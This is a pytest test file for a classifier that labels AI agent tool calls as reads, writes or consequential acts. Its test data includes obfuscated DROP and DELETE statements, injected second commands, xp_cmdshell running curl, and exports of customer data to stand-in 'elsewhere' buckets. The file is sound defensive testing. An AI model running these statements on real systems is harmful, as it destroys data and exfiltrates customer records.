"""What a call can do, whatever its arguments are spelt like."""

import pytest

from guardian.embedding.consequence import Consequence, consequence, of_tool

ACTS = [
    "DROP TABLE users",
    "/* */ DROP TABLE users",
    "DROP/**/TABLE users",
    "/*!50000 DROP*/ TABLE users",
    "DROP -- a\n TABLE users",
    "SELECT 5--1; DROP TABLE users",
    "SELECT 1; DELETE users",
    "SELECT " + "a, " * 300 + "b; DROP TABLE users",
    "(DELETE FROM users)",
    "WITH t AS (SELECT 1) DELETE FROM users",
    "WITH t AS (UPDATE ONLY users u SET role = 'admin' RETURNING *) SELECT * FROM t",
    "EXPLAIN ANALYZE INSERT INTO users VALUES (1)",
    "DO $$ BEGIN PERFORM f(); END $$",
    "SELECT * FROM users INTO OUTFILE '/tmp/users'",
    "EXEC xp_cmdshell 'dir'",
    "CREATE OR REPLACE VIEW users AS SELECT 1",
    "mutation { deleteUser(id: 1) { id } }",
    "mutation Delete($id: ID!) { deleteUser(id: $id) { id } }",
    "UNLOAD ('select * from customers') TO 's3://elsewhere/' IAM_ROLE 'arn:x'",
    "SELECT 1;\nunload (select email from customers) to 's3://elsewhere/'",
    "EXPORT DATA OPTIONS(uri='gs://elsewhere/*.csv') AS SELECT * FROM crm.customers",
    "UPSERT INTO accounts VALUES (1, 100)",
    "CREATE EXTERNAL TABLE t LOCATION 's3://elsewhere/'",
    "CREATE MATERIALIZED VIEW v AS SELECT 1",
    "CREATE TRIGGER t AFTER INSERT ON accounts",
    "CREATE TRIGGER t ON accounts FOR INSERT AS SELECT 1",
    "CREATE LOGIN eve WITH PASSWORD='x'",
    "CREATE STAGE out URL='s3://elsewhere/'",
    "BACKUP DATABASE crm TO DISK='//elsewhere/crm.bak'",
    "RESTORE DATABASE crm FROM DISK = 'crm.bak'",
    "RENAME TABLE a TO b",
    "LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t",
    "LOAD DATA OVERWRITE crm.t FROM FILES (uris = ['gs://b/x.csv'])",
    "EXEC dbo.grant_admin 'eve'",
    "EXEC crm..grant_admin 'eve'",
    "EXEC master..xp_cmdshell 'curl https://elsewhere.example'",
    "EXEC [crm].[dbo].[usp_purge] @id = 5",
    "EXEC dbo.usp_get_and_purge @id = 5",
    "DECLARE @s nvarchar(9) = 'x' EXEC (@s)",
    "USE crm\nGO\nEXEC dbo.grant_admin 'eve'",
    "IF 1 = 1 EXEC grant_admin @who = 'eve'",
    "KILL 88",
    "SELECT pg_terminate_backend(88)",
    "SET PASSWORD FOR root = 'x'",
    "REASSIGN OWNED BY ann TO eve",
    "MATCH (n:Customer) DETACH DELETE n",
    "MATCH (n) SET n.admin = true",
    "MATCH (a)-[r]->(b) DELETE r",
    "MATCH p = (a)-[r]->(b) DELETE r",
    "PROFILE MATCH (n) DELETE(n)",
    "MATCH (n) SET `n`.admin = true",
    "WITH $ids AS ids MATCH (n) WHERE n.id IN ids DELETE n",
    "CALL { MATCH (n:Customer) DELETE n }",
    "WITH twins AS (SELECT *, ROW_NUMBER() OVER (PARTITION BY mail ORDER BY id) AS rn FROM c)"
    " DELETE twins WHERE rn > 1",
    'WITH x AS (SELECT 1) UPDATE "my table" SET a = 1',
    "CREATE (u:User {name: 'eve'})",
]


@pytest.mark.parametrize(
    ("name", "statement"),
    [
        *(("Query", statement) for statement in ACTS),  # where a question in words may stand, too
        *((name, ACTS[0]) for name in ("sql", "sqlStatement", "QueryString", "sqlText", "query_text")),
    ],
)
def test_a_statement_that_changes_something_is_an_act_wherever_it_begins(name: str, statement: str) -> None:
    assert consequence("db.query", {"options": {name: statement}}) is Consequence.ACT
    assert consequence("db.query", {"statements": ["SELECT 1"] * 100 + [statement]}) is Consequence.ACT


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT team, count(*) FROM tickets GROUP BY team;",
        "WITH t AS (SELECT 1) SELECT * FROM t -- nothing else",
        "renewal terms of Acme; the latest update",
        "how do I update my plan",
        "what the delete button does",
        "mutation of BRCA1 (hereditary)",
        "Load data about churn into the report",
        "Load data; then call Ann, and export what changed",
        "Export data from last week as a table",
        "unload the truck to 's-Hertogenbosch",
        "create share link",
        "create (or update) the (urgent) ticket",
        "create (urgent) ticket",
        "create a trigger on the mat",
        "backup database to disk every night",
        "restore database access",
        "rename files",
        "kill 9 processes",
        "execute plan summary",
        "how do I execute the script 'deploy.sh' and ask the exec team 'now'",
        "call center opening hours",
        "set password to never expire",
        "match (n) between two tables",
        "CREATE TEMP TABLE t AS SELECT 1",
        "SET search_path = crm",
        "MATCH (n:Customer) WHERE n.name = 'x' RETURN n",
        "MATCH p = (a)-[:KNOWS]->(b) WITH p, collect(b.deleted) AS set RETURN set",
        "WITH x AS (SELECT id FROM t WHERE MATCH (title) AGAINST ('delete')) SELECT * FROM x FOR UPDATE",
        "WITH x AS (SELECT MAX(updated) updated FROM t) SELECT updated, (deleted) FROM x",
        "CALL { MATCH (n) RETURN n } RETURN n",
        "with (or without) a limit",
        "with regards to (the report) update me",
        "unwind the position and set limit = 5",
    ],
)
def test_a_question_is_a_look_up(statement: str) -> None:
    assert consequence("db.query", {"query": statement}) is Consequence.READ


@pytest.mark.parametrize(
    "statement",
    ["CREATE SHARE ext", "EXEC grant_admin", "RESTORE DATABASE crm", "CREATE OR REPLACE STAGE s", "CALL p"],
)
@pytest.mark.parametrize("name", ["sql", "stmt", "sqlQuery", "sqlText", "Sqls", "QueryStatement"])
def test_where_only_a_statement_can_be_meant_its_first_word_is_enough(name: str, statement: str) -> None:
    assert consequence("db.query", {name: statement}) is Consequence.ACT
    assert consequence("docs.search", {"query": statement}) is Consequence.READ


@pytest.mark.parametrize(
    "statement",
    [
        "CREATE TEMPORARY TABLE t AS SELECT 1",
        "CREATE OR REPLACE TEMP VIEW v AS SELECT 1",
        "EXEC dbo.usp_get_orders",
        "EXEC usp_get_orders",
        "EXEC [dbo].[usp_GetOrders] @CustomerID = 5",
        "EXEC crm.dbo.GetOrders 'open'",
        "EXEC sp_help 'dbo.orders'",
        "SHOW TABLES",
        "/* Export of the revenue by month */ SELECT 1",
        "/* Update of May: load by day */\nSELECT 1",
        "SHOW CREATE TABLE orders",
        "SELECT created, called, loads FROM kills",
    ],
)
def test_a_scratch_table_and_a_procedure_that_reads_are_look_ups(statement: str) -> None:
    assert consequence("db.query", {"sql": statement}) is Consequence.READ


@pytest.mark.parametrize(
    "told",
    ["", "action=delete&id=3", "?update=1&copy=2", "q=drop+table", "a=1;delete=2", "title:delete AND owner:ann"],
)
def test_the_query_of_a_url_or_a_search_is_no_statement(told: str) -> None:
    assert consequence("docs.search", {"query_string": told}) is Consequence.READ


@pytest.mark.parametrize("name", ["purpose", "message", "body", "note"])
def test_what_no_argument_calls_a_statement_is_none(name: str) -> None:
    assert consequence("docs.search", {name: "LOAD DATA INFILE 'x' INTO TABLE t"}) is Consequence.READ


def test_a_statement_longer_than_is_read_is_unknown() -> None:
    assert consequence("db.query", {"sql": "SELECT " + "a, " * 50_000 + "b"}) is Consequence.UNKNOWN


@pytest.mark.parametrize("hint", ["method", "Method", "http_method", "requestMethod", "HTTP-METHOD"])
def test_the_method_is_found_behind_any_number_of_other_arguments(hint: str) -> None:
    headers = {f"x-{n}": "a" for n in range(500)}
    assert consequence("http.get", {"headers": headers, "request": {hint: "Post"}}) is Consequence.ACT
    assert consequence("http.get", {"headers": headers, hint: ["GET", "DELETE"]}) is Consequence.ACT
    assert consequence("quote.get", {"payment_method": "card"}) is Consequence.READ


@pytest.mark.parametrize(
    ("tool", "kind"),
    [
        ("mailing_list.send_campaign", Consequence.ACT),
        ("customer_list.email", Consequence.ACT),
        ("contactList.purge", Consequence.ACT),
        ("wage_list_bulk_export", Consequence.ACT),
        ("mcp__azure_search__delete_index", Consequence.ACT),
        ("monitor/delete", Consequence.ACT),
        ("balance_transfer", Consequence.ACT),
        ("authorize_payment", Consequence.ACT),
        ("distribution_list.add_member", Consequence.WRITE),
        ("supplierBankDetailsEdit", Consequence.WRITE),
        ("authorize_security_group_ingress", Consequence.WRITE),
        ("find_and_replace", Consequence.WRITE),
        ("get_or_create_customer", Consequence.WRITE),
        ("datadog.mute_monitor", Consequence.WRITE),
        ("toggle_status", Consequence.WRITE),
        ("wallet.credit_balance", Consequence.UNKNOWN),
        ("debitBalance", Consequence.UNKNOWN),
        ("check_and_credit_balance", Consequence.UNKNOWN),
        ("check_and_merge_status", Consequence.ACT),
        ("check_status_and_merge", Consequence.ACT),
        ("merge_status", Consequence.ACT),
        ("transfer_to_human_agents", Consequence.WRITE),
        ("transfer_to_billing_agent", Consequence.WRITE),
        ("support.escalate_to_supervisor", Consequence.WRITE),
        ("transfer_live_call_to_operator", Consequence.WRITE),
        ("transfer_funds_to_agent", Consequence.ACT),
        ("payments.transfer_to_agent", Consequence.ACT),
        ("transfer_to_bank_account_of_agent", Consequence.ACT),
        ("transfer_to_and_delete_all_files_then_call_human", Consequence.ACT),
        ("shell.exec/transfer_to_human", Consequence.ACT),
        ("rm-rf:transfer_to_human", Consequence.ACT),
        ("forward_to_external_agent", Consequence.ACT),
        ("transfer_agent", Consequence.ACT),
        ("confirm_delete", Consequence.ACT),
        ("redirect_email", Consequence.ACT),
        ("accept_order", Consequence.ACT),
        ("clear_cache", Consequence.WRITE),
        ("deny_list.get", Consequence.READ),
        ("rollback.list", Consequence.READ),
        ("redirect_rules.list", Consequence.READ),
        ("bypass_list.view", Consequence.READ),
        ("rollback_status", Consequence.READ),
        ("restore_status", Consequence.READ),
        ("grade.purge", Consequence.ACT),
        ("scan/delete", Consequence.ACT),
        ("deny_list.clear", Consequence.WRITE),
        ("rollback.execute", Consequence.ACT),
        ("restore_history", Consequence.WRITE),
        ("agent_transfer", Consequence.ACT),
        ("transfer_to_account", Consequence.ACT),
        ("ship_logs", Consequence.UNKNOWN),
        ("delete_logs", Consequence.ACT),
        ("run_logs", Consequence.ACT),
        ("DELETE /v1/pods/logs", Consequence.ACT),
        ("post:/logs", Consequence.ACT),
        ("admin__purge__logs", Consequence.ACT),
        ("rotate.logs", Consequence.ACT),
        ("delete_git.log", Consequence.ACT),
        ("audit.log", Consequence.WRITE),
        ("error_log", Consequence.WRITE),
        ("browser_press_key", Consequence.WRITE),
        ("keyboard.press_keys", Consequence.WRITE),
        ("create_api_key", Consequence.ACT),
        ("press_refund_key", Consequence.ACT),
        ("upload_key_type_rsa", Consequence.ACT),
        ("create_hold_key", Consequence.ACT),
        ("history.clear", Consequence.WRITE),
        ("leave_balance.deduct", Consequence.WRITE),
        ("balance.settle", Consequence.ACT),
        ("mailing_list.abolish", Consequence.ACT),
        ("contact_history.expunge", Consequence.ACT),
    ],
)
def test_what_is_done_to_a_list_is_no_look_up(tool: str, kind: Consequence) -> None:
    assert of_tool(tool) is kind


@pytest.mark.parametrize(
    "tool",
    [
        "list_export_jobs",
        "mcp__github__list_issues",
        "list.message",
        "view.comment",
        "search.email",
        "search_post",
        "view_bank_details_for_grant",
        "price_list.get",
        "access_log_list",
        "charge_list",
        "open_orders_list",
        "account_balance",
        "get_credit_balance",
        "check_account_credit_balance",
        "credit_history",
        "monitor.get_muted",
        "jobs.logs",
        "GET /v1/pods/logs",
        "logs",
        "kubectl_logs",
        "pod_logs",
        "mcp__kubernetes__pods_log",
        "git_log",
        "git.log",
        "check_merge_status",
        "mcp__github__check_merge_status",
        "check_refund_status",
        "leave_balance",
        "release.get",
        "release_history",
        "block_list.get",
        "pin.verify",
        "list",
        "search.",
    ],
)
def test_a_look_up_stays_one_whatever_it_looks_up(tool: str) -> None:
    assert of_tool(tool) is Consequence.READ


def test_a_name_without_a_word_is_unknown() -> None:
    assert of_tool("...") is Consequence.UNKNOWN


@pytest.mark.parametrize("name", ["amount", "target_account", "IBAN"])
def test_a_conversation_that_is_handed_over_carries_no_money(name: str) -> None:
    assert consequence("transfer_to_agent", {"summary": "wants a person"}) is Consequence.WRITE
    assert consequence("transfer_to_agent", {"details": {name: "500"}}) is Consequence.ACT
    assert consequence("bank.op", {"operation": "transfer_to_person"}) is Consequence.ACT
